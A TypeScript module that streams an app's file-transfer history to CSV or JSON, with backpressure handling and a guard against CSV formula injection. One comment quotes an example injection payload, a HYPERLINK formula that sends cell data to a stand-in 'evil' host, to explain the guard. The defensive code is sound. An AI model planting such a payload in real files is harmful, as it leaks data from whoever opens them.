// The transfer history as CSV (RFC 4180) or JSON, written record by record to a stream. Memory stays flat
// whatever the history's size: records come from an iterable (HistoryStore.all() reads 1000 at a time), the
// text is made one record at a time, handed to the stream in writes of about 64 KiB, and the writer waits
// whenever the stream says it is full (backpressure) — a 100,000-record export never sits in one string.
import type { Writable } from 'node:stream';
import type { HistoryExportFormat, HistoryRecord } from '../../../shared/history';

/** The CSV header: every HistoryRecord field in its order, verification flattened into two columns. */
export const HISTORY_CSV_COLUMNS = [
  'id',
  'jobId',
  'syncRunId',
  'source',
  'destination',
  'sourceConnection',
  'destinationConnection',
  'size',
  'bytesDone',
  'startedAt',
  'endedAt',
  'durationMs',
  'rate',
  'result',
  'errorCode',
  'errorMessage',
  'verificationCheck',
  'verificationValue',
  'deviceId',
  'deviceName',
  'appVersion',
  'updatedAt',
] as const;

/** How much text gathers before one write to the stream: few system calls, still a small buffer. */
const WRITE_SIZE = 64 * 1024;

/**
 * Cells a spreadsheet would read as a formula (=, +, -, @) or that some spreadsheets strip before doing so
 * (TAB, CR). A file name or an error message comes from whoever named the file or runs the server: a name like
 * `=HYPERLINK("http://evil/?"&A1)` in a CSV opened in Excel or LibreOffice would run when the export is opened
 * (CSV injection, see OWASP). A leading single quote makes the spreadsheet show the cell as text instead.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** RFC 4180: a cell with a comma, a quote or a line break goes in double quotes, its quotes doubled. */
function csvCell(value: string | number | undefined): string {
  if (value === undefined) return '';
  // Numbers are the record's own counts and times, never text from outside: no formula guard needed.
  if (typeof value === 'number') return String(value);
  const text = FORMULA_START.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** ISO 8601 in UTC ("2026-12-08T09:41:00.000Z"): one unambiguous form for every reader and time zone. */
function isoDate(ms: number | undefined): string | undefined {
  return ms === undefined ? undefined : new Date(ms).toISOString();
}

/** One record's cells, in HISTORY_CSV_COLUMNS order. */
function csvValues(record: HistoryRecord): Array<string | number | undefined> {
  return [
    record.id,
    record.jobId,
    record.syncRunId,
    record.source,
    record.destination,
    record.sourceConnection,
    record.destinationConnection,
    record.size,
    record.bytesDone,
    isoDate(record.startedAt),
    isoDate(record.endedAt),
    record.durationMs,
    record.rate,
    record.result,
    record.errorCode,
    record.errorMessage,
    record.verification?.check,
    record.verification?.value,
    record.deviceId,
    record.deviceName,
    record.appVersion,
    isoDate(record.updatedAt),
  ];
}

/** RFC 4180 lines end in CRLF; a header row first. */
export function* csvChunks(records: Iterable<HistoryRecord>): Generator<string> {
  yield `${HISTORY_CSV_COLUMNS.join(',')}\r\n`;
  for (const record of records) yield `${csvValues(record).map(csvCell).join(',')}\r\n`;
}

/** One JSON array of the records as they are (times in ms since the epoch), one record per line. */
export function* jsonChunks(records: Iterable<HistoryRecord>): Generator<string> {
  let first = true;
  for (const record of records) {
    yield `${first ? '[\n' : ',\n'}${JSON.stringify(record)}`;
    first = false;
  }
  yield first ? '[]\n' : '\n]\n';
}

export function exportChunks(records: Iterable<HistoryRecord>, format: HistoryExportFormat): Generator<string> {
  return format === 'csv' ? csvChunks(records) : jsonChunks(records);
}

/**
 * Writes the records to `out` as `format` and resolves once the stream has taken all of it (it does not end
 * `out`: stdout must stay open). Rejects with the stream's error (EPIPE when a reader such as `head` stopped
 * reading), after which nothing more is read from `records`.
 */
export async function writeHistoryExport(
  records: Iterable<HistoryRecord>,
  format: HistoryExportFormat,
  out: Writable,
): Promise<void> {
  let failure: Error | undefined;
  const onError = (error: Error) => (failure ??= error);
  out.on('error', onError);
  try {
    let buffered = '';
    for (const chunk of exportChunks(records, format)) {
      buffered += chunk;
      if (buffered.length < WRITE_SIZE) continue;
      await write(out, buffered, () => failure);
      buffered = '';
    }
    // The last write waits for its callback, so an error of the very last bytes is this call's too.
    await new Promise<void>((resolve, reject) => {
      if (failure) return reject(failure);
      out.write(buffered, (error) => (error ? reject(failure ?? error) : resolve()));
    });
  } finally {
    out.off('error', onError);
  }
}

/** One write; when the stream's buffer is full, waits for it to drain (or to fail, or to close). */
async function write(out: Writable, text: string, failed: () => Error | undefined): Promise<void> {
  const closed = () => failed() ?? new Error('The output closed before the export was written.');
  if (failed() || out.destroyed) throw closed();
  if (out.write(text)) return;
  await new Promise<void>((resolve, reject) => {
    const done = (error?: Error) => {
      out.off('drain', onDrain);
      out.off('error', onFail);
      out.off('close', onClose);
      if (error) reject(error);
      else resolve();
    };
    const onDrain = () => done();
    const onFail = (error: Error) => done(error);
    const onClose = () => done(closed());
    out.on('drain', onDrain);
    out.on('error', onFail);
    out.on('close', onClose);
  });
}
